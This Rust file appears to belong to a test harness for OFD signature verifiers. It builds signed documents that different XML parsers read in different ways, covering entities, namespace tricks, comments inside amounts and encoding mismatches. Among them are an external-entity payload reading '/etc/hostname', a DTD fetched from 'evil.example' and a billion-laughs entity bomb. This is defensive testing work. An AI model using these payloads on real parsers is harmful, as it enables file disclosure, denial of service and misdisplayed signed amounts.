//! Class 10: XML that two parsers read in two ways. All of it properly sealed: the digest is no help, and whoever
//! sealed it saw one of the readings.

use crate::attack::{Attack, Attacker};
use crate::parts::Parts;
use crate::workshop::{DOCUMENT, PAGE, Workshop};

const XML: &[&str] = &["ofd.xml"];
const ENCODING: &[&str] = &["ofd.encoding"];
const OFD: &str = "xmlns:ofd=\"http://www.ofdspec.org/2016\"";

pub(super) fn make(shop: &Workshop) -> Vec<Attack> {
    let mut attacks = types(shop);
    attacks.extend(namespaces(shop));
    attacks.extend(texts(shop));
    attacks.extend(encodings(shop));
    attacks.into_iter().map(as_sealed).collect()
}

/// The signer's own doing; where OFD.xml itself cannot be read, nothing leads to the signature any more.
fn as_sealed(attack: Attack) -> Attack {
    let attack = attack.by(Attacker::Insider);
    if attack.name == "external-subset" { attack } else { attack.intact() }
}

fn sealed(shop: &Workshop, change: &dyn Fn(&mut Parts)) -> Vec<u8> {
    shop.sealed_by_market(change).to_zip()
}

fn declared(name: &'static str, doctype: &str) -> impl Fn(&mut Parts) {
    let doctype = doctype.to_owned();
    move |parts: &mut Parts| {
        let text = parts.text(name);
        let (head, body) = text.split_once("?>").expect("a declaration");
        parts.set(name, format!("{head}?>{doctype}{body}"));
    }
}

fn types(shop: &Workshop) -> Vec<Attack> {
    let entity = |doctype: &str, with: &str| {
        sealed(shop, &|parts| {
            declared(PAGE, doctype)(parts);
            parts.replace(PAGE, ">1000<", &format!(">{with}<"));
        })
    };
    let laughs: String = (1..12)
        .map(|at| format!("<!ENTITY l{at} \"{}\">", format!("&l{};", at - 1).repeat(10)))
        .collect::<Vec<_>>()
        .concat();
    vec![
        Attack::new(
            "entity",
            "the amount is an entity of an internal document type: readers without entities show nothing",
            XML,
            entity("<!DOCTYPE p [<!ENTITY fee \"1000\">]>", "&fee;"),
        ),
        Attack::new(
            "external-entity",
            "the amount is a file of the reader's machine",
            XML,
            entity("<!DOCTYPE p [<!ENTITY fee SYSTEM \"file:///etc/hostname\">]>", "&fee;"),
        ),
        Attack::new(
            "external-subset",
            "a document type from the network, which may set default attributes",
            XML,
            sealed(shop, &declared("OFD.xml", "<!DOCTYPE OFD SYSTEM \"http://evil.example/x.dtd\">")),
        ),
        Attack::new(
            "default-attribute",
            "a document type gives every text a default attribute that hides it",
            XML,
            sealed(shop, &declared(PAGE, "<!DOCTYPE p [<!ATTLIST ofd:TextObject Visible CDATA \"false\">]>")),
        ),
        Attack::new(
            "undeclared-entity",
            "an entity that nothing declares stands before the amount",
            XML,
            sealed(shop, &|parts| {
                parts.replace(PAGE, ">1000<", ">&nbsp;1000<");
            }),
        ),
        Attack::new(
            "billion-laughs",
            "eleven entities, each ten times the one before",
            XML,
            entity(&format!("<!DOCTYPE p [<!ENTITY l0 \"1\">{laughs}]>"), "&l11;"),
        ),
    ]
}

fn namespaces(shop: &Workshop) -> Vec<Attack> {
    vec![
        Attack::new(
            "prefix-of-another-namespace",
            "the prefix ofd stands for another namespace; readers that match the prefix show the page, others nothing",
            XML,
            sealed(shop, &|parts| {
                parts.replace(PAGE, OFD, "xmlns:ofd=\"urn:other\"");
            }),
        ),
        Attack::new(
            "prefix-rebound",
            "one text of another namespace under the prefix ofd, one of the right namespace under another prefix",
            XML,
            sealed(shop, &|parts| {
                let text = parts.text(PAGE);
                let at =
                    text.find("<ofd:TextObject ID=\"18\"").or_else(|| text.rfind("<ofd:TextObject")).expect("texts");
                let end = at + text[at..].find("</ofd:TextObject>").expect("its end") + "</ofd:TextObject>".len();
                let object = &text[at..end];
                let shadow = object.replacen("<ofd:TextObject", "<ofd:TextObject xmlns:ofd=\"urn:other\"", 1);
                let real = object.replace("ofd:", "o:").replacen(
                    "<o:TextObject",
                    "<o:TextObject xmlns:o=\"http://www.ofdspec.org/2016\"",
                    1,
                );
                let real = real.replace("1000", "9000");
                parts.set(PAGE, format!("{}{shadow}{real}{}", &text[..at], &text[end..]));
            }),
        ),
        Attack::new(
            "unbound-prefix",
            "one text with a prefix that stands for nothing: some readers stop, some go on",
            XML,
            sealed(shop, &|parts| {
                parts.replace(PAGE, "<ofd:Content>", "<ofd:Content><zzz:Layer ID=\"77\"/>");
            }),
        ),
        Attack::new(
            "qualified-attribute",
            "a size stands twice, once with a prefix: readers that take the local name see another one",
            XML,
            sealed(shop, &|parts| {
                parts.replace(
                    PAGE,
                    "Boundary=\"30 100 150 8\"",
                    "Boundary=\"30 100 150 8\" ofd:Boundary=\"900 900 1 1\"",
                );
            }),
        ),
        Attack::new(
            "another-root",
            "the page's root element is called otherwise",
            XML,
            sealed(shop, &|parts| {
                parts.replace(PAGE, "<ofd:Page ", "<ofd:Sheet ").replace(PAGE, "</ofd:Page>", "</ofd:Sheet>");
            }),
        ),
    ]
}

fn texts(shop: &Workshop) -> Vec<Attack> {
    let with = |name: &'static str, from: &'static str, to: &'static str| {
        sealed(shop, &|parts| {
            parts.replace(name, from, to);
        })
    };
    vec![
        Attack::new(
            "duplicate-attribute",
            "a text has two boundaries",
            XML,
            with(PAGE, "Boundary=\"30 100 150 8\"", "Boundary=\"30 100 150 8\" Boundary=\"900 900 1 1\""),
        ),
        Attack::new(
            "comment-in-amount",
            "a comment stands inside the amount: readers that take the first text node see 10",
            XML,
            with(PAGE, ">1000<", ">10<!-- -->00<"),
        ),
        Attack::new(
            "comment-in-path",
            "a comment stands inside DocRoot: readers that take the first text node follow another path",
            XML,
            with("OFD.xml", "Doc_0/Document.xml", "Doc_0/Document<!---->.xml"),
        ),
        Attack::new(
            "cdata-in-amount",
            "part of the amount is CDATA, which some readers leave out",
            XML,
            with(PAGE, ">1000<", ">10<![CDATA[00]]><"),
        ),
        Attack::new(
            "processing-instruction-in-amount",
            "a processing instruction stands inside the amount",
            XML,
            with(PAGE, ">1000<", ">10<?x y?>00<"),
        ),
        Attack::new(
            "element-in-amount",
            "a foreign element inside the amount holds more digits: readers that take all text show them",
            XML,
            with(PAGE, ">1000<", ">1000<x xmlns=\"urn:other\">000</x><"),
        ),
        Attack::new(
            "control-character",
            "a character in the amount that XML does not have: some readers stop, some leave it out",
            XML,
            with(PAGE, ">1000<", ">10\u{8}00<"),
        ),
        Attack::new(
            "two-hyphens-in-a-comment",
            "a comment with two hyphens, where it ends for some readers",
            XML,
            with(PAGE, "<ofd:Content>", "<!-- a -- ><x>b --><ofd:Content>"),
        ),
        Attack::new(
            "second-declaration",
            "a second XML declaration inside the page, with another encoding",
            XML,
            with(PAGE, "<ofd:Content>", "<?xml version=\"1.0\" encoding=\"GBK\"?><ofd:Content>"),
        ),
        Attack::new(
            "end-of-no-section",
            "the end of a CDATA section that never began",
            XML,
            with(PAGE, "<ofd:Content>", "]]><ofd:Content>"),
        ),
        Attack::new(
            "attribute-twice-by-namespace",
            "an attribute stands twice, under two prefixes of one namespace",
            XML,
            with(PAGE, "<ofd:Content>", "<ofd:Content xmlns:x=\"u\" xmlns:y=\"u\" x:a=\"1\" y:a=\"2\">"),
        ),
        Attack::new(
            "attribute-of-another-prefix",
            "a size stands twice, once with a prefix that stands for the standard's namespace",
            XML,
            with(
                PAGE,
                "Boundary=\"30 100 150 8\"",
                "Boundary=\"30 100 150 8\" o:Boundary=\"900 900 1 1\" xmlns:o=\"http://www.ofdspec.org/2016\"",
            ),
        ),
        Attack::new("two-roots", "a second root element behind the first", XML, {
            sealed(shop, &|parts| {
                let text = parts.text(DOCUMENT);
                parts.set(DOCUMENT, format!("{text}{}", &text[text.find("?>").map_or(0, |at| at + 2)..]));
            })
        }),
        Attack::new("behind-the-root", "characters behind the root element", XML, {
            sealed(shop, &|parts| {
                let text = parts.text(DOCUMENT);
                parts.set(DOCUMENT, format!("{text}x"));
            })
        }),
        Attack::new("not-closed", "the page breaks off before its end: some readers show what came", XML, {
            sealed(shop, &|parts| {
                let text = parts.text(PAGE);
                parts.set(PAGE, &text.as_bytes()[..text.len() - 12]);
            })
        }),
    ]
}

fn encodings(shop: &Workshop) -> Vec<Attack> {
    let declared = |label: &str| {
        let declaration = format!("encoding=\"{label}\"");
        sealed(shop, &|parts| {
            parts.replace(PAGE, "encoding=\"UTF-8\"", &declaration);
        })
    };
    let with_declaration = |declaration: &str| {
        sealed(shop, &|parts| {
            let text = parts.text(PAGE);
            let (_, body) = text.split_once("?>").expect("a declaration");
            parts.set(PAGE, format!("{declaration}{body}"));
        })
    };
    let utf16 = |bom: bool| {
        sealed(shop, &|parts| {
            let text = parts.text(PAGE).replace("encoding=\"UTF-8\"", "encoding=\"UTF-16\"");
            let units = bom.then_some(0xfeff).into_iter().chain(text.encode_utf16());
            let bytes: Vec<u8> = units.flat_map(u16::to_le_bytes).collect();
            parts.set(PAGE, bytes);
        })
    };
    vec![
        Attack::new(
            "declared-gbk",
            "the page calls itself GBK and is UTF-8: its words read differently",
            ENCODING,
            declared("GBK"),
        ),
        Attack::new(
            "declared-latin",
            "the page calls itself ISO-8859-1 and is UTF-8",
            ENCODING,
            declared("ISO-8859-1"),
        ),
        Attack::new(
            "declared-utf-7",
            "the page calls itself UTF-7, in which plus signs begin other characters",
            ENCODING,
            declared("UTF-7"),
        ),
        Attack::new("mark-against-declaration", "a UTF-8 byte order mark before a declaration of GBK", ENCODING, {
            sealed(shop, &|parts| {
                let text = parts.text(PAGE).replace("encoding=\"UTF-8\"", "encoding=\"GBK\"");
                parts.set(PAGE, ["\u{feff}".as_bytes(), text.as_bytes()].concat());
            })
        }),
        Attack::new(
            "declared-gbk-far-away",
            "the page calls itself GBK and is UTF-8; its declaration has three hundred blanks before it says so",
            ENCODING,
            with_declaration(&format!("<?xml version=\"1.0\"{}encoding=\"GBK\"?>", " ".repeat(300))),
        ),
        Attack::new(
            "declared-twice",
            "a declaration with two encodings",
            XML,
            with_declaration("<?xml version=\"1.0\" encoding=\"UTF-8\" encoding=\"GBK\"?>"),
        ),
        Attack::new(
            "declared-under-another-name",
            "a declaration with an encoding and something that ends like one",
            XML,
            with_declaration("<?xml version=\"1.0\" xencoding=\"UTF-8\" encoding=\"GBK\"?>"),
        ),
        Attack::new(
            "declared-late",
            "a blank stands before the declaration of GBK: for some readers it is none then",
            XML,
            with_declaration(" <?xml version=\"1.0\" encoding=\"GBK\"?>"),
        ),
        Attack::new(
            "mark-of-utf-16-against-declaration",
            "a page in UTF-16 with its mark and a declaration of GBK",
            ENCODING,
            sealed(shop, &|parts| {
                let text = parts.text(PAGE).replace("encoding=\"UTF-8\"", "encoding=\"GBK\"");
                let units = [0xfeff].into_iter().chain(text.encode_utf16());
                parts.set(PAGE, units.flat_map(u16::to_le_bytes).collect::<Vec<u8>>());
            }),
        ),
        Attack::new("utf-16-without-mark", "a page in UTF-16 without a byte order mark", ENCODING, utf16(false)),
        Attack::new(
            "overlong",
            "a character of the page in an overlong form, which lenient decoders accept",
            ENCODING,
            {
                sealed(shop, &|parts| {
                    let text = parts.text(PAGE);
                    let at = text.find(">1000<").expect("the amount") + 1;
                    // "1" in two bytes.
                    let bytes = [&text.as_bytes()[..at], &[0xc0, 0xb1], &text.as_bytes()[at + 1..]].concat();
                    parts.set(PAGE, bytes);
                })
            },
        ),
    ]
}
